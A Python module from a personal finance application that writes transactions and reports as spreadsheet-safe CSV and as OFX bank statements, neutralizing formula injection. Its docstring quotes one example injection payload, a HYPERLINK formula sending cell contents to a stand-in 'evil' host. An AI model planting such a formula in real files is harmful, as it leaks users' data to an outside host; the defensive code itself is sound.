"""Writing transactions and reports out: CSV safe to open in a spreadsheet, and OFX.

Pure text builders, one piece at a time (a header, a batch of rows, a footer), so an export is
streamed in batches and never held whole.

**Formula injection.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a description such as
``=HYPERLINK("http://evil/?"&A1)`` written by a bank or a payee would run on the user's
machine. Every text cell that starts with one of those is written with a leading ``'``, which
spreadsheets show as text; plain numbers (``-12.50``) are left as they are, because they are
numbers, not formulas.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from typing import Any
from uuid import UUID
from xml.sax.saxutils import escape

from valorize_core.model.accounts import Account
from valorize_core.model.money import Money
from valorize_core.model.transactions import Transaction, TransactionStatus

__all__ = [
    "TRANSACTION_COLUMNS",
    "csv_lines",
    "neutralize",
    "ofx_footer",
    "ofx_header",
    "ofx_transactions",
    "report_csv_rows",
    "transaction_csv_row",
]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")

TRANSACTION_COLUMNS = (
    "id", "booked_on", "account", "description", "payee", "amount", "currency", "category", "status",
    "tags", "external_id", "transfer_id",
)  # fmt: skip


def neutralize(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: a leading ``'`` when it would start a formula."""
    if cell.startswith(_FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def csv_lines(rows: Iterable[Sequence[str]]) -> str:
    """``rows`` as CSV text (RFC 4180 quoting, CRLF), every cell neutralized."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([neutralize(str(cell)) for cell in row] for row in rows)
    return out.getvalue()


def transaction_csv_row(tx: Transaction, accounts: Mapping[UUID, str], categories: Mapping[UUID, str]) -> list[str]:
    """One transaction as the cells of :data:`TRANSACTION_COLUMNS`; a split transaction names
    its categories joined by ``; ``."""
    names = [categories.get(sp.category_id, "") for sp in tx.splits if sp.category_id is not None]
    return [
        str(tx.id), tx.booked_on.isoformat(), accounts.get(tx.account_id, str(tx.account_id)), tx.description,
        tx.payee, tx.amount.to_decimal_string(), tx.amount.currency.code, "; ".join(names), tx.status.value,
        " ".join(tx.tags), tx.external_id or "", "" if tx.transfer_id is None else str(tx.transfer_id),
    ]  # fmt: skip


def report_csv_rows(rows: Sequence[Mapping[str, Any]], categories: Mapping[UUID, str]) -> list[list[str]]:
    """A report's rows (``Report.rows()``) as a header and CSV rows: money splits into an
    amount and a ``_currency`` column, and a ``category_id`` gets its name beside it."""
    if not rows:
        return []
    header: list[str] = []
    for key, value in rows[0].items():
        if isinstance(value, Mapping):
            header += [key, f"{key}_currency"]
        else:
            header.append(key)
            if key == "category_id":
                header.append("category")
    out = [header]
    for row in rows:
        cells: list[str] = []
        for key, value in row.items():
            if isinstance(value, Mapping):
                cells += [str(value.get("amount", "")), str(value.get("currency", ""))]
            else:
                cells.append("" if value is None else str(value))
                if key == "category_id":
                    cells.append(categories.get(UUID(value), "") if value else "")
        out.append(cells)
    return out


def _ofx_date(day: date | datetime) -> str:
    return day.strftime("%Y%m%d%H%M%S") if isinstance(day, datetime) else day.strftime("%Y%m%d")


def ofx_header(account: Account, now: datetime, start: date | None, end: date | None) -> str:
    """The start of an OFX 2 bank statement of ``account``, up to the opening of its list."""
    kind = "CREDITLINE" if account.kind.is_liability else "SAVINGS" if account.kind.value == "savings" else "CHECKING"
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        '<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>\n'
        "<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
        f"<DTSERVER>{_ofx_date(now)}</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>\n"
        "<BANKMSGSRSV1><STMTTRNRS><TRNUID>0</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
        f"<STMTRS><CURDEF>{account.currency.code}</CURDEF>"
        f"<BANKACCTFROM><BANKID>VALORIZE</BANKID><ACCTID>{account.id.hex[-22:]}</ACCTID><ACCTTYPE>{kind}</ACCTTYPE>"
        "</BANKACCTFROM>\n"
        f"<BANKTRANLIST><DTSTART>{_ofx_date(start or date(1900, 1, 1))}</DTSTART>"
        f"<DTEND>{_ofx_date(end or now.date())}</DTEND>\n"
    )


def ofx_transactions(transactions: Iterable[Transaction]) -> str:
    """``STMTTRN`` elements; the transaction id is the ``FITID`` (stable across exports)."""
    parts = []
    for tx in transactions:
        if tx.status is TransactionStatus.PENDING:
            continue  # OFX statements list booked transactions only
        kind = "CREDIT" if tx.amount.minor > 0 else "DEBIT"
        memo = f"<MEMO>{escape(tx.description[:255])}</MEMO>" if tx.description != tx.payee else ""
        parts.append(
            f"<STMTTRN><TRNTYPE>{kind}</TRNTYPE><DTPOSTED>{_ofx_date(tx.booked_on)}</DTPOSTED>"
            f"<TRNAMT>{tx.amount.to_decimal_string()}</TRNAMT><FITID>{tx.id}</FITID>"
            f"<NAME>{escape((tx.payee or tx.description)[:32])}</NAME>{memo}</STMTTRN>\n"
        )
    return "".join(parts)


def ofx_footer(balance: Money, as_of: datetime) -> str:
    """The end of the statement: its ``LEDGERBAL`` (the account's balance now)."""
    return (
        "</BANKTRANLIST>"
        f"<LEDGERBAL><BALAMT>{balance.to_decimal_string()}</BALAMT><DTASOF>{_ofx_date(as_of)}</DTASOF></LEDGERBAL>"
        "</STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>\n"
    )
